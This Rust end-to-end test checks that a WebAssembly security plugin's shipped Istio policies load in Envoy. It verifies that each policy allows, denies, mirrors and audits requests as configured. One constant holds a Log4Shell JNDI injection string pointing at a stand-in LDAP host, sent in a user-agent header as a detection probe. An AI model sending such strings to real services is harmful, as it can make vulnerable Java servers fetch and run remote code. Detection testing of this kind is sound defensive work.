#![cfg(feature = "e2e")]
//! Every policy the Istio manifests ship (`envoy-config/istio/`), in meshsight.wasm in the real
//! Envoy: the one-plugin document, each of its sections alone, the three sections as three
//! plugins in one VM, and every other meshsight plugin's pluginConfig (client side, egress,
//! waypoint, three plugins, access log). Envoy refuses to start when the module refuses its
//! policy; beyond loading, each policy gets one request of each kind and does what it says:
//!
//! - the catalog request (`GET /api/v1/products/42`, the host a waypoint's rules name) reaches
//!   the upstream;
//! - a request no rule allows is answered by the module (403 or the policy's `deny_response`)
//!   and never reaches the upstream when the allowlist enforces, and flows when it monitors;
//! - a Log4Shell probe in `user-agent` is copied: to the sensor for a `dispatch` target, as the
//!   target's decision header on the upstream request for a `header` target;
//! - the audit records reach their sink: POSTs to the collector at the sink's path with its
//!   headers (OTLP as protobuf), OCSF records from Envoy's file logger for `access_log`.
//!
//! The policies are written by the Python oracle that validates the manifests against Istio's
//! CRDs (`scripts/validate_istio.py --dump-plugin-configs`), run here through
//! `meshsight_rig::tools_python()`; `MESHSIGHT_ISTIO_POLICIES=<dir>` uses a dump made before.
//! Istio cluster names are pointed at the rig's sensor and collector, as in `make bench`.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use meshsight_bench::scenario::{
    access_log_json, http_filters_json, local_audit_policy, local_document, local_mirror_policy,
    probe_host, read_policy, AccessLog, Build, TEMPLATE,
};
use meshsight_bench::Filter;
use meshsight_rig as rig;
use meshsight_rig::{try_send, Collector, EchoUpstream, Envoy, HttpRequest, Sensor};
use serde_json::{json, Map, Value};

/// The jobs of the module, in the order of the one-plugin document.
const JOBS: [&str; 3] = ["allowlist", "mirror", "audit"];
/// The request every shipped allowlist allows (`catalog-read`).
const ALLOWED_PATH: &str = "/api/v1/products/42";
/// A request no shipped allowlist rule allows.
const UNLISTED_PATH: &str = "/meshsight-e2e/not-in-any-rule";
/// A Log4Shell probe (the built-in pack's `log4shell` category).
const LOG4SHELL: &str = "${jndi:ldap://203.0.113.5:1389/Exploit}";
/// How long copies, batches and log lines may take (the audit sink flushes every second).
const WAIT: Duration = Duration::from_secs(15);

/// The dumped policies: `$MESHSIGHT_ISTIO_POLICIES`, else a fresh dump by the oracle.
fn policies_dir() -> PathBuf {
    if let Some(dir) = std::env::var_os("MESHSIGHT_ISTIO_POLICIES").filter(|d| !d.is_empty()) {
        return PathBuf::from(dir);
    }
    let python = rig::tools_python().unwrap_or_else(|e| panic!("{e}"));
    let dir = std::env::temp_dir().join(format!(
        "meshsight-istio-policies-{}-{}",
        std::process::id(),
        rig::free_port().unwrap()
    ));
    let output = Command::new(python)
        .arg(rig::workspace_root().join("scripts/validate_istio.py"))
        .arg("--dump-plugin-configs")
        .arg(&dir)
        .output()
        .expect("scripts/validate_istio.py runs");
    assert!(
        output.status.success(),
        "validate_istio.py --dump-plugin-configs failed:\n{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    dir
}

/// One shipped policy as Envoy runs it: its filters, and per job the policy (pointed at the
/// rig's clusters) the expectations are read from.
struct Case {
    name: String,
    filters: Vec<Filter>,
    jobs: Map<String, Value>,
}

impl Case {
    /// One meshsight plugin running `jobs` in one pass (root id `meshsight`).
    fn one_pass(name: String, document: Value) -> Case {
        let document = local_document(document);
        let jobs = document.as_object().cloned().unwrap_or_default();
        Case {
            name,
            filters: vec![Filter::Meshsight {
                root_id: "meshsight",
                policy: document.to_string(),
                build: Build::Shipped,
            }],
            jobs,
        }
    }

    /// One plugin per job (root id `meshsight_<job>`), all in one VM, in the order given.
    fn plugins(name: String, jobs: Vec<(&str, Value)>) -> Case {
        let jobs: Vec<(&str, Value)> = jobs
            .into_iter()
            .map(|(job, policy)| (job, localize(job, policy)))
            .collect();
        // The chain in the order given (a Map would sort the jobs by name).
        let filters = jobs
            .iter()
            .map(|(job, policy)| Filter::Meshsight {
                root_id: match *job {
                    "allowlist" => "meshsight_allowlist",
                    "mirror" => "meshsight_mirror",
                    _ => "meshsight_audit",
                },
                policy: policy.to_string(),
                build: Build::Shipped,
            })
            .collect();
        Case {
            name,
            filters,
            jobs: jobs
                .into_iter()
                .map(|(job, policy)| (job.to_string(), policy))
                .collect(),
        }
    }

    /// The `host` the requests carry (a waypoint's rules name the services they guard).
    fn host(&self) -> String {
        probe_host(&Value::Object(self.jobs.clone()))
    }
}

/// A job's policy with its Istio clusters pointed at the rig's.
fn localize(job: &str, policy: Value) -> Value {
    match job {
        "mirror" => local_mirror_policy(policy),
        "audit" => local_audit_policy(policy),
        _ => policy,
    }
}

/// The cases: the one-plugin document, each section alone, the sections as three plugins, and
/// every other plugin's pluginConfig (`extra/<meshsight|job>--<plugin>.json`).
fn cases(dir: &Path) -> Vec<Case> {
    let document = read_policy(dir, "meshsight").unwrap();
    let mut cases = vec![Case::one_pass(
        "meshsight.json (the one-plugin document)".to_string(),
        document,
    )];
    let sections: Vec<(&str, Value)> = JOBS
        .iter()
        .map(|job| (*job, read_policy(dir, job).unwrap()))
        .collect();
    for (job, policy) in &sections {
        cases.push(Case::one_pass(
            format!("{job}.json alone in the one pass"),
            json!({ *job: policy }),
        ));
    }
    cases.push(Case::plugins(
        "allowlist.json, mirror.json, audit.json as three plugins in one VM".to_string(),
        sections,
    ));
    let extra = dir.join("extra");
    let mut names: Vec<String> = fs::read_dir(&extra)
        .unwrap_or_else(|e| panic!("{}: {e}", extra.display()))
        .filter_map(|e| e.ok()?.file_name().to_str().map(str::to_string))
        .filter_map(|n| n.strip_suffix(".json").map(str::to_string))
        .collect();
    names.sort();
    for name in names {
        let policy = read_policy(&extra, &name).unwrap();
        let label = format!("extra/{name}.json");
        match name.split_once("--").map(|(kind, _)| kind) {
            Some("meshsight") => cases.push(Case::one_pass(label, policy)),
            Some(job) if JOBS.contains(&job) => {
                let job = JOBS.iter().find(|j| **j == job).copied().unwrap();
                cases.push(Case::plugins(label, vec![(job, policy)]));
            }
            _ => panic!("{label}: name must be <meshsight|allowlist|mirror|audit>--<plugin>.json"),
        }
    }
    cases
}

/// A case's Envoy with the servers behind it and the file its access logger writes.
struct Stand {
    upstream: EchoUpstream,
    sensor: Sensor,
    collector: Collector,
    envoy: Envoy,
    access_log: Option<PathBuf>,
}

impl Drop for Stand {
    fn drop(&mut self) {
        self.envoy.stop();
        if let Some(path) = &self.access_log {
            let _ = fs::remove_file(path);
        }
    }
}

fn start(case: &Case, n: usize) -> Result<Stand, String> {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let collector = Collector::start();
    let access_log = (case.jobs.get("audit").and_then(|a| a.get("sink"))
        == Some(&json!("access_log")))
    .then(|| {
        std::env::temp_dir().join(format!(
            "meshsight-istio-policies-{}-{n}-ocsf.log",
            std::process::id()
        ))
    });
    let log_config = match &access_log {
        Some(path) => access_log_json(AccessLog::Ocsf, path),
        None => access_log_json(AccessLog::None, Path::new("")),
    };
    let envoy = Envoy::builder(TEMPLATE)
        .var("HTTP_FILTERS", http_filters_json(&case.filters).to_string())
        .var("ACCESS_LOG", log_config.to_string())
        // Envoy's default allocator (only the bench's "freed heap returned" rows set one).
        .var("MEMORY_ALLOCATOR", "")
        .upstream(&upstream)
        .sensor(&sensor)
        .collector(&collector)
        .start()
        .map_err(|e| format!("Envoy did not start with the policy: {e}"))?;
    Ok(Stand {
        upstream,
        sensor,
        collector,
        envoy,
        access_log,
    })
}

fn send(stand: &Stand, request: HttpRequest) -> Result<u16, String> {
    let response = try_send(
        stand.envoy.port(),
        &request.timeout(Duration::from_secs(10)),
    )
    .map_err(|e| format!("request failed: {e}"))?;
    Ok(response.status)
}

/// Waits until `done` holds, up to [`WAIT`].
fn eventually(mut done: impl FnMut() -> bool) -> bool {
    let deadline = Instant::now() + WAIT;
    loop {
        if done() {
            return true;
        }
        if Instant::now() >= deadline {
            return false;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Upstream requests for `path` (the target as Envoy forwarded it).
fn upstream_saw(stand: &Stand, path: &str) -> Vec<meshsight_rig::RecordedRequest> {
    stand
        .upstream
        .requests()
        .into_iter()
        .filter(|r| r.path == path)
        .collect()
}

/// Runs `case` and returns what it did, or what went wrong.
fn check(case: &Case, n: usize) -> Result<String, String> {
    let stand = start(case, n)?;
    let host = case.host();
    let mut did = Vec::new();
    let mut requests_sent = 0;

    // 1. The catalog request flows.
    let status = send(&stand, HttpRequest::get(ALLOWED_PATH).header("host", &host))?;
    requests_sent += 1;
    if !(200..300).contains(&status) || upstream_saw(&stand, ALLOWED_PATH).is_empty() {
        return Err(format!(
            "GET {ALLOWED_PATH} (host {host}) answered {status}, upstream saw it: {}",
            !upstream_saw(&stand, ALLOWED_PATH).is_empty()
        ));
    }
    did.push(format!("GET {ALLOWED_PATH} {status}"));

    // 2. A request no rule allows: answered by the module when enforcing, else flows.
    if let Some(allowlist) = case.jobs.get("allowlist") {
        let status = send(
            &stand,
            HttpRequest::get(UNLISTED_PATH).header("host", &host),
        )?;
        requests_sent += 1;
        let reached = !upstream_saw(&stand, UNLISTED_PATH).is_empty();
        let mode = allowlist["mode"].as_str().unwrap_or("enforce");
        if mode == "enforce" {
            let expected = allowlist["deny_response"]["status"].as_u64().unwrap_or(403) as u16;
            if status != expected || reached {
                return Err(format!(
                    "enforcing allowlist: GET {UNLISTED_PATH} answered {status} (expected \
                     {expected}), upstream saw it: {reached}"
                ));
            }
        } else if !(200..300).contains(&status) || !reached {
            return Err(format!(
                "allowlist in {mode} mode: GET {UNLISTED_PATH} answered {status}, upstream saw \
                 it: {reached} (a monitoring allowlist lets it through)"
            ));
        }
        did.push(format!("unlisted {status} ({mode})"));
    }

    // 3. A Log4Shell probe is copied the way its target delivers.
    if let Some(mirror) = case.jobs.get("mirror") {
        let signatures = &mirror["signatures"];
        let on = |v: &Value| v.as_bool() != Some(false);
        if on(&signatures["enabled"])
            && on(&signatures["builtin"])
            && on(&signatures["categories"]["log4shell"])
        {
            let target = signatures["target"]
                .as_str()
                .or_else(|| mirror["default_target"].as_str())
                .map(str::to_string)
                .or_else(|| {
                    mirror["targets"]
                        .as_object()
                        .and_then(|t| t.keys().next().cloned())
                })
                .ok_or("mirror policy without a target")?;
            let spec = &mirror["targets"][target.as_str()];
            let hit = "/api/v1/products/7";
            let status = send(
                &stand,
                HttpRequest::get(hit)
                    .header("host", &host)
                    .header("user-agent", LOG4SHELL),
            )?;
            requests_sent += 1;
            if !(200..300).contains(&status) {
                return Err(format!(
                    "the Log4Shell probe on GET {hit} answered {status}"
                ));
            }
            match spec["delivery"].as_str() {
                Some("dispatch") => {
                    if !eventually(|| {
                        stand
                            .sensor
                            .requests()
                            .iter()
                            .any(|r| r.path.contains(hit) || r.body_text().contains(hit))
                    }) {
                        return Err(format!(
                            "dispatch target {target}: the sensor got no copy of the Log4Shell \
                             probe (got {} requests)",
                            stand.sensor.requests().len()
                        ));
                    }
                    did.push(format!("Log4Shell copied to the sensor ({target})"));
                }
                Some("header") => {
                    let header = spec["header"].as_str().unwrap_or("x-meshsight-mirror");
                    let seen = upstream_saw(&stand, hit);
                    let value = seen.first().and_then(|r| r.header(header));
                    if value != Some(target.as_str()) {
                        return Err(format!(
                            "header target {target}: the upstream request carried {header}: \
                             {value:?}"
                        ));
                    }
                    did.push(format!("Log4Shell marked {header}: {target}"));
                }
                other => return Err(format!("target {target}: delivery {other:?}")),
            }
        }
    }

    // 4. The audit records reach the sink.
    if let Some(audit) = case.jobs.get("audit") {
        match &audit["sink"] {
            Value::Object(sink) if sink.contains_key("http") => {
                let http = &sink["http"];
                let otlp = http["encoding"].as_str() == Some("otlp");
                let path = http["path"]
                    .as_str()
                    .unwrap_or(if otlp { "/v1/logs" } else { "/" })
                    .to_string();
                if !eventually(|| !stand.collector.bodies().is_empty()) {
                    return Err(format!(
                        "audit http sink: the collector accepted no batch (got {} requests)",
                        stand.collector.requests().len()
                    ));
                }
                let batch = stand
                    .collector
                    .requests()
                    .into_iter()
                    .find(|r| r.method == "POST")
                    .ok_or("no POST")?;
                if batch.path != path {
                    return Err(format!("audit batch POSTed to {}, not {path}", batch.path));
                }
                if let Some(headers) = http["headers"].as_object() {
                    for (name, value) in headers {
                        if batch.header(name) != value.as_str() {
                            return Err(format!(
                                "audit batch: {name}: {:?}, the policy says {value}",
                                batch.header(name)
                            ));
                        }
                    }
                }
                let content_type = batch.header("content-type").unwrap_or("");
                let expected = if otlp {
                    "application/x-protobuf"
                } else {
                    "application/x-ndjson"
                };
                if !content_type.starts_with(expected) || batch.body.is_empty() {
                    return Err(format!(
                        "audit batch: content-type {content_type:?} (expected {expected}), {} bytes",
                        batch.body.len()
                    ));
                }
                did.push(format!("audit batch to {path} ({expected})"));
            }
            Value::String(sink) if sink == "access_log" => {
                let path = stand.access_log.clone().ok_or("no access log file")?;
                let records = || -> Vec<Value> {
                    fs::read_to_string(&path)
                        .unwrap_or_default()
                        .lines()
                        .filter_map(|l| serde_json::from_str(l).ok())
                        .collect()
                };
                if !eventually(|| records().len() >= requests_sent) {
                    return Err(format!(
                        "access_log sink: Envoy's logger wrote {} records for {requests_sent} \
                         requests",
                        records().len()
                    ));
                }
                if let Some(bad) = records().iter().find(|r| r["class_uid"] != 4002) {
                    return Err(format!("access_log sink: not OCSF HTTP Activity: {bad}"));
                }
                did.push(format!("{requests_sent} OCSF records from Envoy's logger"));
            }
            other => {
                // The log sink (the default): one JSON line per record in Envoy's log.
                if !stand.envoy.wait_for_log("\"class_uid\"", WAIT) {
                    return Err(format!("audit sink {other}: no record in Envoy's log"));
                }
                did.push("audit record in Envoy's log".to_string());
            }
        }
    }
    Ok(did.join("; "))
}

#[test]
fn every_policy_the_istio_manifests_ship_loads_and_does_what_it_says() {
    let dir = policies_dir();
    let cases = cases(&dir);
    let extras = fs::read_dir(dir.join("extra")).unwrap().count();
    // The one-plugin document, its three sections alone and as three plugins, and each extra.
    assert_eq!(cases.len(), 5 + extras);
    assert!(extras >= 7, "expected the client, egress, waypoint, access-log and three-plugin manifests, got {extras}");
    let mut failures = Vec::new();
    for (n, case) in cases.iter().enumerate() {
        match check(case, n) {
            Ok(did) => println!("ok   {}: {did}", case.name),
            Err(err) => {
                println!("FAIL {}: {err}", case.name);
                failures.push(format!("{}: {err}", case.name));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} shipped policies failed in Envoy:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}
